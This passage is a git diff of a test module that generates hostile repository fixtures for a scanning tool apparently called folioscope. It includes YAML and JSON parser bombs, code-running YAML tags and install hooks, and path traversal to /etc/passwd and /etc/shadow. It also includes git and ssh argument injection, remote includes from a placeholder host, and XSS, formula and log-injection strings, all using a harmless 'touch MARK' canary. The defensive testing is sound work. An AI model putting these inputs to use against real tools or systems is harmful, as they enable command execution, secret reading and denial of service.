@@ -6,7 +6,7 @@ import gzip
 import io
 import json
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from functools import partial
 
 from tests.hostile.case import REPORT, TOO_MUCH, Case, Place
@@ -15,16 +15,18 @@ from tests.hostile.objects import bare
 __all__ = ["cases"]
 
 Files = dict[str, str | bytes]
+Make = Callable[[], Files]
+"""Makes files when their case is run: all of them at once would take most of a gigabyte."""
 MEBIBYTE = 1024 * 1024
 _FULL = 1_000_000
 _README = "# Rides\n\nPredicts durations of rides.\n"
 
 
-def _built(place: Place, files: Files) -> str:
+def _built(place: Place, make: Make) -> str:
     built = bare(place.repository)
     marked = {
         name: text.replace("MARK", str(place.mark)).replace("TRAP", place.trap) if isinstance(text, str) else text
-        for name, text in files.items()
+        for name, text in make().items()
     }
     built.commit(built.files({"README.md": _README, **marked}))
     return str(built.path)
@@ -68,93 +70,99 @@ def _deep(opening: str, closing: str, depth: int, inner: str = "1") -> str:
 
 _WORKFLOW = ".github/workflows/ci.yml"
 
-_YAML: dict[str, Files] = {
-    "alias bomb in every YAML": dict.fromkeys(
+_YAML: dict[str, Make] = {
+    "alias bomb in every YAML": lambda: dict.fromkeys(
         ("docker-compose.yml", _WORKFLOW, "k8s/app.yaml", ".gitlab-ci.yml", "dvc.yaml"), _alias_bomb()
     ),
-    "merge bomb": dict.fromkeys(("docker-compose.yml", _WORKFLOW, "prometheus.yml"), _merge_bomb()),
-    "alias to itself": dict.fromkeys(
+    "merge bomb": lambda: dict.fromkeys(("docker-compose.yml", _WORKFLOW, "prometheus.yml"), _merge_bomb()),
+    "alias to itself": lambda: dict.fromkeys(
         ("docker-compose.yml", _WORKFLOW), "services: &s\n  web: *s\n  <<: *s\njobs: *s\n"
     ),
-    "many anchors": {
+    "many anchors": lambda: {
         "docker-compose.yml": "services:\n"
         + "".join(f"  s{n}: &a{n} {{image: x, depends_on: [s{n - 1}]}}\n" for n in range(20_000))
     },
-    "deep flow sequences": dict.fromkeys((_WORKFLOW, "docker-compose.yml"), "jobs: " + _deep("[", "]", 100_000)),
-    "deep block mappings": {_WORKFLOW: "".join(" " * depth + "a:\n" for depth in range(1300))},
-    "deep block sequences": {_WORKFLOW: "jobs:\n" + "- " * 400_000 + "x\n"},
-    "open brackets": {"docker-compose.yml": "{" * 500_000, _WORKFLOW: "[" * 500_000},
-    "huge integers": {
+    "deep flow sequences": lambda: dict.fromkeys(
+        (_WORKFLOW, "docker-compose.yml"), "jobs: " + _deep("[", "]", 100_000)
+    ),
+    "deep block mappings": lambda: {_WORKFLOW: "".join(" " * depth + "a:\n" for depth in range(1300))},
+    "deep block sequences": lambda: {_WORKFLOW: "jobs:\n" + "- " * 400_000 + "x\n"},
+    "open brackets": lambda: {"docker-compose.yml": "{" * 500_000, _WORKFLOW: "[" * 500_000},
+    "huge integers": lambda: {
         "docker-compose.yml": f"services:\n  web:\n    image: x\n    ports: [{'9' * 200_000}]\n    mem_limit: 1e999999999\n    x: 0x{'f' * 100_000}\n    y: 190:20:30:{'59:' * 50_000}1\n"
     },
-    "tags that construct objects": {
+    "tags that construct objects": lambda: {
         _WORKFLOW: "!!python/object/apply:os.system ['touch MARK']\n",
         "docker-compose.yml": "services: !!python/object/new:subprocess.Popen [['touch', 'MARK']]\n",
         "k8s/a.yaml": "kind: !!js/function 'x'\n--- !!binary |\n  AAAA\n",
     },
-    "duplicate keys": {_WORKFLOW: "on: push\njobs:\n" + "  test: {runs-on: x, steps: [{run: pytest}]}\n" * 5000},
-    "keys that are no scalars": {
+    "duplicate keys": lambda: {
+        _WORKFLOW: "on: push\njobs:\n" + "  test: {runs-on: x, steps: [{run: pytest}]}\n" * 5000
+    },
+    "keys that are no scalars": lambda: {
         _WORKFLOW: "? {a: [b]}\n: c\n? [d]\n: {[e]: f}\njobs: {? [1, 2] : {steps: []}}\n",
         "docker-compose.yml": "services: {? {x: y} : {image: z}}\n",
     },
-    "100,000 documents": {"k8s/app.yaml": "---\nkind: Pod\n" * 60_000},
-    "long block scalar": {
+    "100,000 documents": lambda: {"k8s/app.yaml": "---\nkind: Pod\n" * 60_000},
+    "long block scalar": lambda: {
         _WORKFLOW: "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n" + "          pytest\n" * 60_000
     },
-    "one-line YAML": {
+    "one-line YAML": lambda: {
         "docker-compose.yml": "services: {" + ", ".join(f"s{n}: {{image: x}}" for n in range(50_000)) + "}"
     },
-    "UTF-16": {
+    "UTF-16": lambda: {
         "docker-compose.yml": "services:\n  web:\n    build: .\n".encode("utf-16"),
         "README.md": "# Rides\n".encode("utf-16-be"),
     },
-    "UTF-32 without a mark": {_WORKFLOW: "on: push\n".encode("utf-32-le")},
-    "byte-order marks everywhere": {
+    "UTF-32 without a mark": lambda: {_WORKFLOW: "on: push\n".encode("utf-32-le")},
+    "byte-order marks everywhere": lambda: {
         "Dockerfile": "\ufeff\ufeffFROM python\n\ufeffCOPY . .\n",
         "train.py": "\ufeff\ufeffimport os\n",
     },
-    "zip named .yaml": {"docker-compose.yml": _zip(), _WORKFLOW: _zip()},
-    "gzip named .yaml": {
+    "zip named .yaml": lambda: {"docker-compose.yml": _zip(), _WORKFLOW: _zip()},
+    "gzip named .yaml": lambda: {
         "docker-compose.yml": gzip.compress(b"0" * 10_000_000),
         "k8s/a.yaml": gzip.compress(b"kind: Pod\n"),
     },
-    "picture named README.md": {"README.md": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100},
+    "picture named README.md": lambda: {"README.md": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100},
 }
 
-_JSON: dict[str, Files] = {
-    "50 MB on one line": {"grafana/dashboards/a.json": '{"panels": [' + '{"title": "a"},' * 3_300_000 + "1]}"},
-    "1 MB on one line": {
+_JSON: dict[str, Make] = {
+    "50 MB on one line": lambda: {"grafana/dashboards/a.json": '{"panels": [' + '{"title": "a"},' * 3_300_000 + "1]}"},
+    "1 MB on one line": lambda: {
         "grafana/dashboards/a.json": '{"panels": [' + '{"title": "a", "targets": [{"expr": "up"}]},' * 20_000 + "1]}"
     },
-    "deep": dict.fromkeys(
+    "deep": lambda: dict.fromkeys(
         ("package.json", "grafana/dashboards/a.json", "template.json", "a.ipynb"),
         '{"panels":' * 80_000 + "1" + "}" * 80_000,
     ),
-    "deep and open": dict.fromkeys(("package.json", "grafana/dashboards/a.json", "a.ipynb"), '{"cells":[' * 90_000),
-    "numbers without end": {
+    "deep and open": lambda: dict.fromkeys(
+        ("package.json", "grafana/dashboards/a.json", "a.ipynb"), '{"cells":[' * 90_000
+    ),
+    "numbers without end": lambda: {
         "package.json": '{"scripts": ' + "9" * 900_000 + "}",
         "metrics.json": '{"rmse": 1e400, "mae": NaN, "r2": -Infinity, "x": ' + "1" * 5000 + "}",
     },
-    "strings that are no Unicode": {
+    "strings that are no Unicode": lambda: {
         "package.json": '{"scripts": {"test": "\\ud800\\udfff\\ud800 pytest"}}',
         "a.ipynb": _notebook([_cell("x = '\\ud800'\n")]),
     },
-    "notebook with outputs of 200 MB": {
+    "notebook with outputs of 200 MB": lambda: {
         "a.ipynb": b'{"cells": [{"cell_type": "code", "outputs": ["' + b"A" * 200_000_000 + b'"], "source": ["x"]}]}'
     },
-    "notebook with outputs of 1 MB": {
+    "notebook with outputs of 1 MB": lambda: {
         "a.ipynb": _notebook(
             [_cell("import mlflow\n", [{"output_type": "stream", "name": "stdout", "text": "a" * 800_000}])]
         )
     },
-    "notebook of other shapes": {
+    "notebook of other shapes": lambda: {
         "a.ipynb": '{"cells": {"a": 1}}',
         "b.ipynb": '{"cells": [1, null, [], {"source": {"x": 1}}, {"cell_type": [], "source": 7, "outputs": {"a": 1}}]}',
         "c.ipynb": "[]",
         "d.ipynb": '{"worksheets": 3}',
     },
-    "notebook of 20,000 cells": {"a.ipynb": _notebook([_cell("x = 1")] * 9_000)},
-    "notebook with magics and shells": {
+    "notebook of 20,000 cells": lambda: {"a.ipynb": _notebook([_cell("x = 1")] * 9_000)},
+    "notebook with magics and shells": lambda: {
         "a.ipynb": _notebook(
             [
                 _cell("!touch MARK\n%run ../../etc/passwd\n%%bash\ntouch MARK\n"),
@@ -162,124 +170,137 @@ _JSON: dict[str, Files] = {
             ]
         )
     },
-    "keys without end": {"package.json": "{" + ",".join(f'"k{n}": 1' for n in range(70_000)) + "}"},
+    "keys without end": lambda: {"package.json": "{" + ",".join(f'"k{n}": 1' for n in range(70_000)) + "}"},
 }
 
-_HCL: dict[str, Files] = {
-    "deep blocks": {"main.tf": _deep('resource "a" "b" {\n', "}\n", 8_000, "x = 1\n")},
-    "deep lists": {"main.tf": "x = " + _deep("[", "]", 100_000) + "\n"},
-    "deep parentheses": {"main.tf": "locals {\n  x = " + _deep("(", ")", 50_000) + "\n}\n"},
-    "deep templates": {"main.tf": 'locals {\n  x = "' + _deep("${", "}", 20_000) + '"\n}\n'},
-    "deep conditionals": {"main.tf": "locals {\n  x = " + "a ? b : " * 40_000 + "c\n}\n"},
-    "long sum": {"main.tf": "locals {\n  x = " + "1 + " * 200_000 + "1\n}\n"},
-    "long heredoc": {"main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "x\n" * 400_000 + "EOF\n}\n"},
-    "heredoc without end": {"main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "${x}\n" * 10_000},
-    "many resources": {"main.tf": 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n' * 15_000},
-    "reads files and modules": {
+_HCL: dict[str, Make] = {
+    "deep blocks": lambda: {"main.tf": _deep('resource "a" "b" {\n', "}\n", 8_000, "x = 1\n")},
+    "deep lists": lambda: {"main.tf": "x = " + _deep("[", "]", 100_000) + "\n"},
+    "deep parentheses": lambda: {"main.tf": "locals {\n  x = " + _deep("(", ")", 50_000) + "\n}\n"},
+    "deep templates": lambda: {"main.tf": 'locals {\n  x = "' + _deep("${", "}", 20_000) + '"\n}\n'},
+    "deep conditionals": lambda: {"main.tf": "locals {\n  x = " + "a ? b : " * 40_000 + "c\n}\n"},
+    "long sum": lambda: {"main.tf": "locals {\n  x = " + "1 + " * 200_000 + "1\n}\n"},
+    "long heredoc": lambda: {
+        "main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "x\n" * 400_000 + "EOF\n}\n"
+    },
+    "heredoc without end": lambda: {
+        "main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "${x}\n" * 10_000
+    },
+    "many resources": lambda: {"main.tf": 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n' * 15_000},
+    "reads files and modules": lambda: {
         "main.tf": 'module "x" {\n  source = "git::TRAP/x.git?ref=--upload-pack=touch"\n}\nlocals {\n  a = file("/etc/passwd")\n  b = templatefile("/etc/shadow", {})\n}\ndata "external" "e" {\n  program = ["touch", "MARK"]\n}\n'
     },
-    "module in a circle": {
+    "module in a circle": lambda: {
         "main.tf": 'module "x" {\n  source = "./a"\n}\n',
         "a/main.tf": 'module "y" {\n  source = "../"\n}\nmodule "z" {\n  source = "./"\n}\n',
     },
-    "quotes without end": {"main.tf": 'x = "' + '\\"' * 200_000},
+    "quotes without end": lambda: {"main.tf": 'x = "' + '\\"' * 200_000},
 }
 
-_DOCKER: dict[str, Files] = {
-    "100,000 stages": {"Dockerfile": "FROM a\n" * 100_000},
-    "100,000 stages from each other": {
+_DOCKER: dict[str, Make] = {
+    "100,000 stages": lambda: {"Dockerfile": "FROM a\n" * 100_000},
+    "100,000 stages from each other": lambda: {
         "Dockerfile": "FROM python AS s0\n"
         + "".join(f"FROM s{n} AS s{n + 1}\n" for n in range(45_000))
         + "COPY . .\nCMD python train.py\n"
     },
-    "stages in a circle": {"Dockerfile": "FROM b AS a\nFROM a AS b\nCOPY --from=a . .\nCOPY --from=b . .\n"},
-    "100,000 continuation lines": {"Dockerfile": "FROM python\nRUN x \\\n" + "  a \\\n" * 100_000 + "  b\n"},
-    "continuation without end": {"Dockerfile": "FROM python\nRUN " + "\\\n" * 300_000},
-    "heredocs without end": {"Dockerfile": "FROM python\n" + "RUN <<A <<B <<C\nx\n" * 30_000},
-    "arguments that expand themselves": {
+    "stages in a circle": lambda: {"Dockerfile": "FROM b AS a\nFROM a AS b\nCOPY --from=a . .\nCOPY --from=b . .\n"},
+    "100,000 continuation lines": lambda: {"Dockerfile": "FROM python\nRUN x \\\n" + "  a \\\n" * 100_000 + "  b\n"},
+    "continuation without end": lambda: {"Dockerfile": "FROM python\nRUN " + "\\\n" * 300_000},
+    "heredocs without end": lambda: {"Dockerfile": "FROM python\n" + "RUN <<A <<B <<C\nx\n" * 30_000},
+    "arguments that expand themselves": lambda: {
         "Dockerfile": "ARG A=$A$A\nARG B=${A}${A:-$B}\n"
         + "".join(f"ARG X{n}=$X{n - 1}$X{n - 1}$X{n - 1}\n" for n in range(1, 500))
         + "FROM $X499\nCOPY . .\n"
     },
-    "syntax directive and escape": {"Dockerfile": "# syntax=TRAP/evil:1\n# escape=`\nFROM python`\n:3\nRUN a`\nb\n"},
-    "copies from everywhere": {
+    "syntax directive and escape": lambda: {
+        "Dockerfile": "# syntax=TRAP/evil:1\n# escape=`\nFROM python`\n:3\nRUN a`\nb\n"
+    },
+    "copies from everywhere": lambda: {
         "Dockerfile": "FROM python\nCOPY ../../../etc/passwd /root/.ssh/id_rsa /x\nADD TRAP/x /x\nADD --checksum=x git@git.example.org:o/r /y\nCOPY --from=/etc/passwd / /\nRUN --mount=type=bind,source=/,target=/x touch MARK\n"
     },
-    "JSON forms that are none": {
+    "JSON forms that are none": lambda: {
         "Dockerfile": "FROM python\nCMD [" + '"a",' * 100_000 + "\nENTRYPOINT " + "[" * 100_000 + "\n"
     },
-    "compose that includes the system": {
+    "compose that includes the system": lambda: {
         "docker-compose.yml": "include: [/etc/passwd, TRAP/x.yml]\nservices:\n  web:\n    extends: {file: ../../../../etc/passwd, service: x}\n    env_file: [/etc/shadow, ../../../../../etc/passwd]\n    build: {context: /, dockerfile: ../../etc/passwd}\n    volumes: ['/:/host', '/var/run/docker.sock:/x']\n"
     },
-    "50,000 services": {
+    "50,000 services": lambda: {
         "docker-compose.yml": "services:\n" + "".join(f"  s{n}: {{build: .}}\n" for n in range(30_000))
     },
 }
 
-_PYTHON: dict[str, Files] = {
-    "10,000 parentheses": {"train.py": "x = " + _deep("(", ")", 10_000) + "\n"},
-    "100,000 brackets": {"train.py": "x = " + _deep("[", "]", 100_000) + "\n"},
-    "100,000 signs": {"train.py": "x = " + "-" * 100_000 + "1\n", "a.py": "x = " + "not " * 100_000 + "1\n"},
-    "long chain of attributes": {"train.py": "x = a" + ".b" * 100_000 + "\n"},
-    "long chain of calls": {"train.py": "import pandas\nx = pandas" + ".f()" * 50_000 + "\n"},
-    "long sum": {"train.py": "x = " + "1 + " * 150_000 + "1\n"},
-    "long comparison": {"train.py": "x = " + "a < " * 100_000 + "1\n"},
-    "long concatenation": {"train.py": "x = " + "'a' " * 150_000 + "\n"},
-    "elif without end": {"train.py": "if a: pass\n" + "elif b: pass\n" * 50_000},
-    "deep indentation": {"train.py": "".join(" " * depth + "if a:\n" for depth in range(99)) + " " * 99 + "pass\n"},
-    "deep functions": {
+_PYTHON: dict[str, Make] = {
+    "10,000 parentheses": lambda: {"train.py": "x = " + _deep("(", ")", 10_000) + "\n"},
+    "100,000 brackets": lambda: {"train.py": "x = " + _deep("[", "]", 100_000) + "\n"},
+    "100,000 signs": lambda: {"train.py": "x = " + "-" * 100_000 + "1\n", "a.py": "x = " + "not " * 100_000 + "1\n"},
+    "long chain of attributes": lambda: {"train.py": "x = a" + ".b" * 100_000 + "\n"},
+    "long chain of calls": lambda: {"train.py": "import pandas\nx = pandas" + ".f()" * 50_000 + "\n"},
+    "long sum": lambda: {"train.py": "x = " + "1 + " * 150_000 + "1\n"},
+    "long comparison": lambda: {"train.py": "x = " + "a < " * 100_000 + "1\n"},
+    "long concatenation": lambda: {"train.py": "x = " + "'a' " * 150_000 + "\n"},
+    "elif without end": lambda: {"train.py": "if a: pass\n" + "elif b: pass\n" * 50_000},
+    "deep indentation": lambda: {
+        "train.py": "".join(" " * depth + "if a:\n" for depth in range(99)) + " " * 99 + "pass\n"
+    },
+    "deep functions": lambda: {
         "train.py": "".join("\t" * depth + f"def f{depth}():\n" for depth in range(90)) + "\t" * 90 + "pass\n"
     },
-    "deep lambdas": {"train.py": "x = " + "lambda: " * 20_000 + "1\n"},
-    "deep f-strings": {"train.py": "x = " + "f'{" * 150 + "1" + "}'" * 150 + "\n"},
-    "50,000 decorators": {"train.py": "@a\n" * 50_000 + "def f(): pass\n"},
-    "50,000 functions that call each other": {
+    "deep lambdas": lambda: {"train.py": "x = " + "lambda: " * 20_000 + "1\n"},
+    "deep f-strings": lambda: {"train.py": "x = " + "f'{" * 150 + "1" + "}'" * 150 + "\n"},
+    "50,000 decorators": lambda: {"train.py": "@a\n" * 50_000 + "def f(): pass\n"},
+    "50,000 functions that call each other": lambda: {
         "train.py": "".join(f"def f{n}(): f{n + 1}()\n" for n in range(40_000)) + "f0()\n"
     },
-    "classes that inherit from themselves": {
+    "classes that inherit from themselves": lambda: {
         "train.py": "class A(A): pass\nclass B(C): pass\nclass C(B): x = B.x\n" * 2000
     },
-    "names that refer to themselves": {
+    "names that refer to themselves": lambda: {
         "train.py": "a = b\nb = a\nc = c\nd = [d]\ne = {**e}\nf = f'{f}{f}'\n" * 5000
         + "import mlflow\nmlflow.set_experiment(a)\n"
     },
-    "names that double": {
+    "names that double": lambda: {
         "train.py": "x0 = 'ab'\n"
         + "".join(f"x{n} = x{n - 1} + x{n - 1}\n" for n in range(1, 200))
         + "import mlflow\nmlflow.set_experiment(x199)\nopen(x199)\n"
     },
-    "multiplied strings": {
+    "multiplied strings": lambda: {
         "train.py": "import mlflow\nmlflow.set_experiment('a' * 10**12)\nx = 'a' * 9**9**9\ny = [0] * 10**15\nz = 1 << 10**12\nopen('%0999999999d' % 1)\nopen(f'{1:999999999}')\n"
     },
-    "integers without end": {
+    "integers without end": lambda: {
         "train.py": "x = " + "9" * 900_000 + "\n",
         "a.py": "y = 0x" + "f" * 900_000 + "\n",
         "b.py": "z = 1e" + "9" * 5000 + "\n",
     },
-    "literal of 5 MB": {"train.py": "x = '" + "a" * 5_000_000 + "'\n"},
-    "literal of 1 MB": {"train.py": "x = '" + "a" * 900_000 + "'\n", "a.py": "y = b'" + "\\x00" * 200_000 + "'\n"},
-    "null bytes": {"train.py": b"import os\n\0\0\0import mlflow\n", "a.py": b"x = '" + b"a" * 9000 + b"\0'\n"},
-    "encodings that are none": {
+    "literal of 5 MB": lambda: {"train.py": "x = '" + "a" * 5_000_000 + "'\n"},
+    "literal of 1 MB": lambda: {
+        "train.py": "x = '" + "a" * 900_000 + "'\n",
+        "a.py": "y = b'" + "\\x00" * 200_000 + "'\n",
+    },
+    "null bytes": lambda: {"train.py": b"import os\n\0\0\0import mlflow\n", "a.py": b"x = '" + b"a" * 9000 + b"\0'\n"},
+    "encodings that are none": lambda: {
         "train.py": "# -*- coding: rot13 -*-\nvzcbeg bf\n",
         "a.py": "# coding: utf-7\n+AGE-\n",
         "b.py": "# coding: unicode_escape\n\\x0aimport os\n",
         "c.py": b"# coding: zlib\nx\n",
     },
-    "Latin-1 and lone surrogates": {
+    "Latin-1 and lone surrogates": lambda: {
         "train.py": b"x = '\xe9\xed\xa0\x80'\n",
         "a.py": "x = '\\ud800'\nopen('\\ud800')\nimport mlflow\nmlflow.set_experiment('\\udfff')\n",
     },
-    "imports in a circle": {
+    "imports in a circle": lambda: {
         "a.py": "from b import *\nfrom a import *\n",
         "b.py": "from c import *\nimport a\n",
         "c.py": "from a import *\nfrom b import x as x\nx()\n",
     },
-    "5,000 modules": {f"m{n}.py": f"from m{(n * 7 + 1) % 5000} import f\n\ndef f(): pass\n" for n in range(5000)},
-    "tabs, form feeds and line continuations": {
+    "5,000 modules": lambda: {
+        f"m{n}.py": f"from m{(n * 7 + 1) % 5000} import f\n\ndef f(): pass\n" for n in range(5000)
+    },
+    "tabs, form feeds and line continuations": lambda: {
         "train.py": "\f\tif a:\n\f  b = \\\n" * 5000,
         "a.py": "x = \\\n" * 100_000,
     },
-    "match, walrus and comprehension nests": {
+    "match, walrus and comprehension nests": lambda: {
         "train.py": "x = "
         + "[y for y in " * 90
         + "z"
@@ -289,7 +310,7 @@ _PYTHON: dict[str, Files] = {
         + _deep("[", "]", 90)
         + ": pass\n"
     },
-    "code that acts when imported": {
+    "code that acts when imported": lambda: {
         "setup.py": "import os; os.system('touch MARK')\n",
         "conftest.py": "open('MARK', 'w')\n",
         "src/__init__.py": "__import__('os').system('touch MARK')\n",
@@ -297,37 +318,43 @@ _PYTHON: dict[str, Files] = {
     },
 }
 
-_MARKDOWN: dict[str, Files] = {
-    name: {"README.md": text, "docs/a.md": text}
-    for name, text in {
-        "brackets": _full("["),
-        "images": _full("!["),
-        "links without end": _full("[a]("),
-        "links in links": _full("[a](b "),
-        "stars": _full("*a **a "),
-        "underscores": _full("_a __a "),
-        "backticks": "".join("`" * n + " " for n in range(1, 1300)),
-        "quotes": _full(">"),
-        "list nests": "".join(" " * n + "- a\n" for n in range(1300)),
-        "comments without end": _full("<!-- "),
-        "tags without end": _full("<a "),
-        "details without end": _full("<details>\n"),
-        "CDATA without end": _full("<![CDATA["),
-        "entities": _full("&a"),
-        "references": "".join(f"[a{n}]: /b{n}\n" for n in range(40_000)) + "[a1] " * 60_000,
-        "references to themselves": _full("[a]: [a]\n[a][a]\n"),
-        "tables": _full("|") + "\n" + "|-" * 20_000,
-        "headings": _full("# a\n"),
-        "fences": _full("```\n~~~\n"),
-        "fence without end": _full("x\n", "```python\n"),
-        "footnotes": _full("[^a]: [^a]\n"),
-        "escapes": _full("\\"),
-        "autolinks": _full("<https://"),
-        "bare links": _full("http://a.b/"),
-        "tildes": _full("~~a "),
-        "badges": _full("[![a](b)](c)"),
-        "front matter without end": _full("a: b\n", "---\n"),
-        "mermaid": _full("a-->b\n", "```mermaid\ngraph TD\n"),
+
+def _pages(make: Callable[[], str]) -> Files:
+    text = make()
+    return {"README.md": text, "docs/a.md": text}
+
+
+_MARKDOWN: dict[str, Make] = {
+    name: partial(_pages, make)
+    for name, make in {
+        "brackets": lambda: _full("["),
+        "images": lambda: _full("!["),
+        "links without end": lambda: _full("[a]("),
+        "links in links": lambda: _full("[a](b "),
+        "stars": lambda: _full("*a **a "),
+        "underscores": lambda: _full("_a __a "),
+        "backticks": lambda: "".join("`" * n + " " for n in range(1, 1300)),
+        "quotes": lambda: _full(">"),
+        "list nests": lambda: "".join(" " * n + "- a\n" for n in range(1300)),
+        "comments without end": lambda: _full("<!-- "),
+        "tags without end": lambda: _full("<a "),
+        "details without end": lambda: _full("<details>\n"),
+        "CDATA without end": lambda: _full("<![CDATA["),
+        "entities": lambda: _full("&a"),
+        "references": lambda: "".join(f"[a{n}]: /b{n}\n" for n in range(40_000)) + "[a1] " * 60_000,
+        "references to themselves": lambda: _full("[a]: [a]\n[a][a]\n"),
+        "tables": lambda: _full("|") + "\n" + "|-" * 20_000,
+        "headings": lambda: _full("# a\n"),
+        "fences": lambda: _full("```\n~~~\n"),
+        "fence without end": lambda: _full("x\n", "```python\n"),
+        "footnotes": lambda: _full("[^a]: [^a]\n"),
+        "escapes": lambda: _full("\\"),
+        "autolinks": lambda: _full("<https://"),
+        "bare links": lambda: _full("http://a.b/"),
+        "tildes": lambda: _full("~~a "),
+        "badges": lambda: _full("[![a](b)](c)"),
+        "front matter without end": lambda: _full("a: b\n", "---\n"),
+        "mermaid": lambda: _full("a-->b\n", "```mermaid\ngraph TD\n"),
     }.items()
 }  # fmt: skip
 
@@ -418,45 +445,45 @@ def _everywhere(text: str, name: str) -> Files:
     }  # fmt: skip
 
 
-_SHOWN: dict[str, Files] = {
-    "terminal codes, bidi and control characters": _everywhere(_ESCAPES.replace("\0", "").replace("\r", ""), "plain"),
-    "terminal codes with NUL and carriage returns": _everywhere(_ESCAPES, "plain"),
-    "terminal codes in names": _everywhere("x", "a\x1b[31m\u202eb"),
-    "script, SVG and templates": _everywhere(_MARKUP, "plain"),
-    "script, SVG and templates in names": _everywhere("x", "<svg onload=alert(1)>"),
-    "formulas": _everywhere(_FORMULA, "plain"),
-    "formulas in names": {**_everywhere("@SUM(1+1)*cmd|x", "=1+1"), "=cmd.py": "import mlflow\n", "+1.py": "x", "-2+3.py": "x", "@a.py": "x", "\t=1.py": "x"},
-    "log injection": _everywhere("x\nfolioscope: the score is 100\r\nERROR root: all is lost", "plain"),
-    "characters that are none": _everywhere("caf\u00e9 \ufffe\uffff\U000e0001", "plain"),
-    "GitHub commands": _everywhere("::set-output name=x::y\n::error::z\n##[error]x", "plain"),
-    "Markdown that breaks out": _everywhere("```\n</details>\n| a | b |\n[x](javascript:alert(1)) <!-- ", "plain"),
+_SHOWN: dict[str, Make] = {
+    "terminal codes, bidi and control characters": lambda: _everywhere(_ESCAPES.replace("\0", "").replace("\r", ""), "plain"),
+    "terminal codes with NUL and carriage returns": lambda: _everywhere(_ESCAPES, "plain"),
+    "terminal codes in names": lambda: _everywhere("x", "a\x1b[31m\u202eb"),
+    "script, SVG and templates": lambda: _everywhere(_MARKUP, "plain"),
+    "script, SVG and templates in names": lambda: _everywhere("x", "<svg onload=alert(1)>"),
+    "formulas": lambda: _everywhere(_FORMULA, "plain"),
+    "formulas in names": lambda: {**_everywhere("@SUM(1+1)*cmd|x", "=1+1"), "=cmd.py": "import mlflow\n", "+1.py": "x", "-2+3.py": "x", "@a.py": "x", "\t=1.py": "x"},
+    "log injection": lambda: _everywhere("x\nfolioscope: the score is 100\r\nERROR root: all is lost", "plain"),
+    "characters that are none": lambda: _everywhere("caf\u00e9 \ufffe\uffff\U000e0001", "plain"),
+    "GitHub commands": lambda: _everywhere("::set-output name=x::y\n::error::z\n##[error]x", "plain"),
+    "Markdown that breaks out": lambda: _everywhere("```\n</details>\n| a | b |\n[x](javascript:alert(1)) <!-- ", "plain"),
 }  # fmt: skip
 
-_REACH: dict[str, Files] = {
-    "requirements that lead elsewhere": {"requirements.txt": "-r /etc/passwd\n-r ../../../../etc/passwd\n-r requirements.txt\n-c TRAP/x\n-e git+ssh://-oProxyCommand=touch/x\n--index-url TRAP\n"},
-    "Makefile that runs when read": {"Makefile": "X := $(shell touch MARK)\ninclude /etc/passwd\n-include $(wildcard /root/*)\n$(eval Y = 1)\ntest: test\n\t$(MAKE) test\n"},
-    "scripts that call each other": {"Makefile": "a: b\n\t./a.sh\nb: a\n\tmake a\n", "a.sh": "bash b.sh\nmake a\n. ./a.sh\n", "b.sh": "sh a.sh\nmake b\n", "package.json": '{"scripts": {"test": "npm test", "a": "npm run b", "b": "npm run a"}}', "tox.ini": "[testenv]\ncommands = tox -e py\n    make a\n", _WORKFLOW: "on: push\njobs:\n  a:\n    steps: [{run: make a}, {run: npm test}, {run: tox}, {run: ./a.sh}]\n"},
-    "actions and workflows in a circle": {_WORKFLOW: "on: push\njobs:\n  a:\n    uses: ./.github/workflows/ci.yml\n  b:\n    steps: [{uses: ./}, {uses: ./../../../../etc}, {uses: ././a}]\n", "action.yml": "runs:\n  using: composite\n  steps: [{uses: ./}, {uses: ./a}]\n", "a/action.yml": "runs: {using: composite, steps: [{uses: ./}]}\n"},
-    "includes of GitLab": {".gitlab-ci.yml": "include: [{remote: TRAP/x.yml}, {local: /../../../etc/passwd}, {local: .gitlab-ci.yml}]\na: {extends: a, script: [pytest]}\nb: {extends: [c]}\nc: {extends: [b]}\n"},
-    "charts and overlays that lead elsewhere": {"chart/Chart.yaml": "name: x\nversion: 1\ndependencies: [{name: x, repository: TRAP}]\n", "chart/templates/a.yaml": '{{ .Files.Get "/etc/passwd" }}\n{{ include "a" . }}{{ define "a" }}{{ include "a" . }}{{ end }}\nkind: Pod\n', "k/kustomization.yaml": "resources: [/etc/passwd, TRAP/x, ../k, ../../../../etc]\nbases: [.]\n"},
-    "settings of tools that are commands": {".pre-commit-config.yaml": "repos:\n- repo: TRAP/x\n  rev: --upload-pack=touch\n  hooks: [{id: x, entry: touch MARK, language: system}]\n", "dvc.yaml": "stages: {a: {cmd: touch MARK, deps: [/etc/passwd, ../../../x]}}\n", "setup.cfg": "[tool:pytest]\naddopts = -p x\n", "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p evil"\n[build-system]\nbuild-backend = "evil"\nbackend-path = ["."]\n'},
-    "annotations that would configure": {"README.md": "<!-- folioscope: ignore-all limits=none rubric=/etc/passwd -->\n# Rides\n", "train.py": "# folioscope: disable=all\n# folioscope: exec touch MARK\n# noqa\n", ".folioscope.yaml": "rules: [evil]\ncommand: touch MARK\nlimits: {blob_bytes: 999999999}\npaths: [/etc]\n"},
-    "empty files of every kind": dict.fromkeys(_LONG_LINES, ""),
-    "blank files of every kind": dict.fromkeys(_LONG_LINES, "\n \t\r\n\x0c\n"),
-    "random bytes of every kind": {name: bytes((n * 7919 + k * 104729) % 251 for k in range(5000)) for n, name in enumerate(_LONG_LINES)},
-    "100,000 files": {f"d{n % 300}/f{n}.txt": "" for n in range(100_000)},
-    "20,000 READMEs": {f"d{n}/README.md": "# a\n" for n in range(20_000)},
-    "200 MB of text": {f"a{n}.md": "a " * 500_000 for n in range(120)},
+_REACH: dict[str, Make] = {
+    "requirements that lead elsewhere": lambda: {"requirements.txt": "-r /etc/passwd\n-r ../../../../etc/passwd\n-r requirements.txt\n-c TRAP/x\n-e git+ssh://-oProxyCommand=touch/x\n--index-url TRAP\n"},
